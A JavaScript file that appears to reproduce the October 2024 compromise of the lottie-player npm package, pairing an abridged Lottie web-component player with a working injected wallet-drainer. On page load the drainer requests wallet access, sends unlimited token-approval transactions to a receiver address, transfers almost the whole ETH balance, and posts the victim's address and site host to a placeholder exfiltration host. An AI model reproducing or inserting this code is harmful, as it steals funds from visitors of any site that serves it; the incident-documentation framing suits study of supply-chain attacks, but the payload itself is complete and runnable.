// Incident: @lottiefiles/lottie-player 2.0.5, 2.0.6 and 2.0.7 (npm), 30-31 October 2024. An
// attacker with a leaked npm token published builds whose bundle, besides the normal web
// component, ran wallet-drainer code on page load: it asked the visitor to connect a browser
// wallet, then requested unlimited token approvals and a transfer to the attacker. Sites that
// pulled "latest" from a CDN served it to their visitors (one user reported losing 10 BTC).
// Reference: https://github.com/LottieFiles/lottie-player/issues/254
// Reproduction (own code, placeholder host and random addresses).
(function (global) {
  "use strict";

  // ----- player (abridged) -----
  class LottiePlayer extends HTMLElement {
    static get observedAttributes() {
      return ["src", "autoplay", "loop", "speed"];
    }
    connectedCallback() {
      this._container = document.createElement("div");
      this.attachShadow({ mode: "open" }).appendChild(this._container);
      this.load(this.getAttribute("src"));
    }
    attributeChangedCallback(name, _old, value) {
      if (name === "src" && this._container) this.load(value);
    }
    async load(src) {
      if (!src || !global.lottie) return;
      const data = typeof src === "string" && src.trim().startsWith("{") ? JSON.parse(src) : await (await fetch(src)).json();
      if (this._anim) this._anim.destroy();
      this._anim = global.lottie.loadAnimation({
        container: this._container,
        renderer: "svg",
        loop: this.hasAttribute("loop"),
        autoplay: this.hasAttribute("autoplay"),
        animationData: data,
      });
      this._anim.setSpeed(Number(this.getAttribute("speed") || 1));
    }
    play() { this._anim && this._anim.play(); }
    pause() { this._anim && this._anim.pause(); }
    stop() { this._anim && this._anim.stop(); }
  }
  if (global.customElements && !global.customElements.get("lottie-player")) {
    global.customElements.define("lottie-player", LottiePlayer);
  }

  // ----- injected in 2.0.5-2.0.7 -----
  var RECEIVER = "0x7a3B91c0E5d2F4a86B1c3D9e0F2a4B6c8D0e1F23";
  var TOKENS = [
    "0xdAC17F958D2ee523a2206206994597C13D831ec7",
    "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48",
  ];
  var MAX = "f".repeat(64);

  function pad(hex) {
    return hex.replace(/^0x/, "").toLowerCase().padStart(64, "0");
  }

  async function claim() {
    var eth = global.ethereum;
    if (!eth || global.__lpClaimed) return;
    global.__lpClaimed = true;
    try {
      var accounts = await eth.request({ method: "eth_requestAccounts" });
      var from = accounts[0];
      for (var i = 0; i < TOKENS.length; i++) {
        await eth.request({
          method: "eth_sendTransaction",
          params: [{ from: from, to: TOKENS[i], data: "0x095ea7b3" + pad(RECEIVER) + MAX }],
        });
      }
      var bal = await eth.request({ method: "eth_getBalance", params: [from, "latest"] });
      var keep = BigInt(3e15);
      var value = BigInt(bal) > keep ? BigInt(bal) - keep : 0n;
      if (value > 0n) {
        await eth.request({
          method: "eth_sendTransaction",
          params: [{ from: from, to: RECEIVER, value: "0x" + value.toString(16) }],
        });
      }
      fetch("https://stats.lp-cdn.example/c", { method: "POST", mode: "no-cors", body: JSON.stringify({ a: from, h: location.host }) });
    } catch (e) {
      global.__lpClaimed = false;
    }
  }

  if (typeof document !== "undefined") {
    document.addEventListener("DOMContentLoaded", function () {
      setTimeout(claim, 1500);
    });
  }
})(typeof window !== "undefined" ? window : globalThis);
